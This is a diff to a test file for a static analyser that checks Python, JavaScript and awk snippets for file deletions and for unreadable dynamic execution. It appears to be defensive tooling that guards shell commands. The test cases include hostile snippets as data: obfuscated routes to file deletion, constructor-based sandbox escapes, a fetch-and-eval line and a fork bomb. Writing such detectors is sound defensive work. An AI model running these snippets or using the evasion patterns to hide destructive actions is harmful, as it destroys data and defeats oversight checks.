@@ -68,6 +68,13 @@ describe('Python is read as it runs', () => {
     ['import os\ndef f(p):\n  os.remove(p)\nf("/x")', ['delete /x']],
     ['import os\nlist(map(os.remove, ["/x", "/y"]))', ['delete /x', 'delete /y']],
     ['import os\ngetattr(os, "re" + "move")("/x")', ['delete /x']],
+    ['import os\nos.__dict__["remove"]("/x")', ['delete /x']],
+    ['import sys\nsys.modules["os"].remove("/x")', ['delete /x']],
+    ['import shutil\nshutil.os.remove("/x")', ['delete /x']],
+    [
+      'import subprocess\nc = "git"\nif 1:\n  c = "rm"\nsubprocess.run([c, "x"])',
+      ['delete /h/p/x'],
+    ],
     ['__import__("os").system("rm x")', ['delete /h/p/x']],
     [
       'import subprocess\nc = ["git", "reset"]\nc.append("--hard")\nsubprocess.run(c)',
@@ -102,6 +109,10 @@ describe('Python is read as it runs', () => {
     'import importlib\nimportlib.import_module(input())',
     'globals()["ev" + "al"]("1")',
     'import os\nos.system(input())',
+    'exec("".join(chr(c) for c in range(99)))',
+    '@exec\n@input\nclass X: pass',
+    'import os\nos.__getattribute__("system")("x")',
+    'import os\nfoo(os)',
     'if (',
   ])('%s cannot be read', (code) => {
     expect(python(code).unread).not.toEqual([])
@@ -123,6 +134,9 @@ describe('Python is read as it runs', () => {
 describe('JavaScript is read as it runs', () => {
   test.each([
     ['require("fs").rmSync("/x", { recursive: true })', ['delete /x all']],
+    ['const o = { ...require("fs") }; o.unlinkSync("/x")', ['delete /x']],
+    ['require.call(null, "fs").unlinkSync.apply(null, ["/x"])', ['delete /x']],
+    ['process.getBuiltinModule("fs").unlinkSync("/x")', ['delete /x']],
     ['const { rmSync: r } = require("node:fs"); r("/x")', ['delete /x']],
     ['import { rm } from "fs/promises"; await rm("/x")', ['delete /x']],
     ['import("fs").then((f) => f.unlinkSync("/x"))', ['delete /x']],
@@ -154,6 +168,8 @@ describe('JavaScript is read as it runs', () => {
   test.each([
     'eval(require("fs").readFileSync(0, "utf8"))',
     'require(process.argv[2])',
+    '[].filter.constructor("return 1")()',
+    'this.constructor.constructor("return process")()',
     'const c = require("child_process"); c[process.argv[2]]("x")',
     'new Function(await (await fetch("https://a.example")).text())()',
     'a b c (',
@@ -290,4 +306,14 @@ describe('awk is read by its tokens', () => {
   ])('%s hides nothing', (code) => {
     expect(awk(code)).toEqual({ files: [], unread: [] })
   })
+})
+
+test('code that starts itself beside itself without end is told', () => {
+  const traits = (code: string) => {
+    const recorder = newRecorder(view, follow)
+    recordScript(`python3 <<'END'\n${code}\nEND`, '/h/p', recorder)
+    return recorder.actions().flatMap((one) => (one.kind === 'shell.run' ? one.traits : []))
+  }
+  expect(traits('import os\nwhile True:\n  os.fork()')).toContain('fork-bomb')
+  expect(traits('import os\nif os.fork():\n  print(1)')).not.toContain('fork-bomb')
 })
